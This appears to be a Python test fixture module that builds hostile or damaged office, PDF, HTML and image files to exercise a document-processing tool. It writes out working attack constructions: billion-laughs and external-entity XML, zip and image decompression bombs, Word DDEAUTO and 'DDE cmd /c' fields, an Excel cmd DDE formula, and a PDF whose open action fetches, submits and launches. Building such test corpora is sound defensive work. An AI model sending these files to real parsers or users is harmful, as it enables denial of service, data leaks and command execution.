"""Files that are meant to do harm, or came to harm: one of each shape, most of them sound but for one thing."""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

from tests.corpus.making import Recipe
from tests.corpus.scheme import made

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_MAIN = {"docx": "word/document.xml", "docm": "word/document.xml", "odt": "content.xml", "ods": "content.xml"}
_MAIN["xlsx"] = "xl/worksheets/sheet1.xml"
_BILLION = "<!DOCTYPE a [<!ENTITY a0 'ha'>{}]>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
)
ZIPPED = ("docx", "docm", "odt", "ods", "xlsx")


def sound(format: str) -> bytes:
    """A completed audit tool in that format."""
    (one,) = made([Recipe("tier1-generic", "plain", format, 0)])
    return one.content


def edited(content: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
    """A package whose parts have been changed, the first of them still the first."""
    with zipfile.ZipFile(io.BytesIO(content)) as opened:
        parts = {name: opened.read(name) for name in opened.namelist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, part in parts.items():
            packed.writestr(name, part)
    return out.getvalue()


def with_type(format: str, document_type: str, entity: str) -> bytes:
    """A document type before the main part, and an entity among its words."""

    def change(parts: dict[str, bytes]) -> None:
        name = _MAIN[format]
        declaration, mark, rest = parts[name].partition(b"?>")
        if not mark:
            declaration, rest = b"<?xml version='1.0' encoding='UTF-8'", parts[name]
        for end in (b"</w:t>", b"</text:p>", b"</t>"):
            rest = rest.replace(end, entity.encode() + end, 1)
        parts[name] = declaration + b"?>" + document_type.encode() + rest

    return edited(sound(format), change)


def billion_laughs(format: str, server: str) -> bytes:
    """Entities within entities, which would fill the memory."""
    return with_type(format, _BILLION, "&a11;")


def external_entity(format: str, server: str) -> bytes:
    """An entity that is to be fetched."""
    return with_type(format, f'<!DOCTYPE a [<!ENTITY x SYSTEM "{server}/entity">]>', "&x;")


def external_type(format: str, server: str) -> bytes:
    """A document type that is to be fetched."""
    return with_type(format, f'<!DOCTYPE a SYSTEM "{server}/type.dtd">', "")


def bomb(format: str, server: str) -> bytes:
    """A part that unpacks to much more than a document has."""

    def change(parts: dict[str, bytes]) -> None:
        parts[_MAIN[format]] += b" " * 40_000_000

    return edited(sound(format), change)


def two_in_one(format: str, server: str) -> bytes:
    """One package behind another."""
    return sound(format) + sound(format)


def locked_part(format: str, server: str) -> bytes:
    """Its entries say that they need a password."""
    content = bytearray(sound(format))
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(signature)
        while start >= 0:
            content[start + at] |= 1
            start = content.find(signature, start + 4)
    return bytes(content)


def cut_short(format: str, server: str) -> bytes:
    """Its second half is missing."""
    content = sound(format)
    return content[: len(content) // 2]


def linked_word(format: str, server: str) -> bytes:
    """A template, a picture, a frame and an object on a server, and fields that fetch and start things."""
    kinds = ("attachedTemplate", "image", "frame", "oleObject", "subDocument", "aFChunk")
    links = "".join(
        f'<Relationship Id="far{n}" Type="{_R}/{kind}" Target="{server}/{kind}" TargetMode="External"/>'
        for n, kind in enumerate(kinds)
    )
    codes = (
        f'DDEAUTO "{server}" "x"',
        f"INCLUDEPICTURE {server}/p.png",
        f"INCLUDETEXT {server}/t",
        "DDE cmd /c x",
    )
    fields = "".join(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for code in codes
    )

    def change(parts: dict[str, bytes]) -> None:
        rels = "word/_rels/document.xml.rels"
        parts[rels] = parts[rels].replace(b"</Relationships>", f"{links}</Relationships>".encode())
        settings = f'<Relationships xmlns="{_PACKAGE}">{links}</Relationships>'
        parts["word/_rels/settings.xml.rels"] = settings.encode()
        document = parts["word/document.xml"]
        chunk = f'<w:altChunk xmlns:r="{_R}" r:id="far5"/>'
        at = document.index(b"<w:body>") + len(b"<w:body>")
        parts["word/document.xml"] = document[:at] + fields.encode() + chunk.encode() + document[at:]

    return edited(sound(format), change)


def embedded(format: str, server: str) -> bytes:
    """A program and another document packed into it."""

    def change(parts: dict[str, bytes]) -> None:
        folder = "word/embeddings/" if format in ("docx", "docm") else "xl/embeddings/"
        parts[f"{folder}oleObject1.bin"] = b"MZ" + bytes(4_000)
        parts[f"{folder}package.docx"] = sound("docx")

    return edited(sound(format), change)


def linked_sheet(format: str, server: str) -> bytes:
    """A workbook whose cells are worked out on a server, or by starting a program."""

    def change(parts: dict[str, bytes]) -> None:
        name = _MAIN["xlsx"]
        formula = (
            f'<c r="A900"><f>WEBSERVICE("{server}")</f><v>4</v></c>'
            "<c r=\"B900\"><f>cmd|'/c x'!A1</f><v>1</v></c>"
        )
        parts[name] = parts[name].replace(
            b"</sheetData>", f'<row r="900">{formula}</row></sheetData>'.encode(), 1
        )

    return edited(sound(format), change)


def linked_odt(format: str, server: str) -> bytes:
    """A picture, a section and an object on a server, and a script that would run when it is opened."""
    found = (
        f'<text:section xmlns:xlink="http://www.w3.org/1999/xlink" text:name="far"><text:section-source '
        f'xlink:href="{server}/section"/><text:p/></text:section><text:p><draw:frame><draw:image '
        f'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{server}/p.png"/></draw:frame></text:p>'
    )

    def change(parts: dict[str, bytes]) -> None:
        parts["content.xml"] = parts["content.xml"].replace(
            b"</office:text>", f"{found}</office:text>".encode(), 1
        )

    return edited(sound(format), change)


def web_page(format: str, server: str) -> bytes:
    """A page with everything that a browser would fetch or run."""
    far = (
        f'<base href="{server}/"><link rel=stylesheet href="{server}/s.css"><script src="{server}/s.js"></script>'
        f'<img src="{server}/i.png"><iframe src="{server}/f"></iframe><object data="{server}/o"></object>'
        f'<meta http-equiv=refresh content="0;url={server}/r"><form action="{server}/f"></form>'
    )
    content = sound("html")
    return content.replace(b"<body>", b"<body>" + far.encode(), 1)


def armed_pdf(format: str, server: str) -> bytes:
    """A PDF that fetches, starts and sends when it is opened."""
    actions = (
        f"/OpenAction<</S/URI/URI({server}/open)/Next<</S/SubmitForm/F({server}/submit)"
        "/Next<</S/Launch/F(/bin/true)>>>>>>"
    )
    return re.sub(rb"/Type ?/Catalog", actions.encode() + rb"/Type/Catalog", sound("pdf-form"), count=1)


def picture_bomb(format: str, server: str) -> bytes:
    """A few bytes that say they are a picture as large as a field."""
    if format == "png":
        head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
        chunks = ((b"IHDR", head), (b"IDAT", zlib.compress(bytes(1_000_000))), (b"IEND", b""))
        return b"\x89PNG\r\n\x1a\n" + b"".join(
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
            for name, data in chunks
        )
    out = io.BytesIO()
    Image.new("1", (30_000, 30_000)).save(out, format, compression="group4")
    return out.getvalue()


def half_a_picture(format: str, server: str) -> bytes:
    """Its second half is missing."""
    out = io.BytesIO()
    Image.effect_noise((900, 900), 60).save(out, format)
    return out.getvalue()[: out.tell() // 2]


def named_wrongly(format: str, server: str) -> bytes:
    """A program that is called a document."""
    return b"MZ\x90\0\3\0\0\0" + bytes(range(256)) * 40
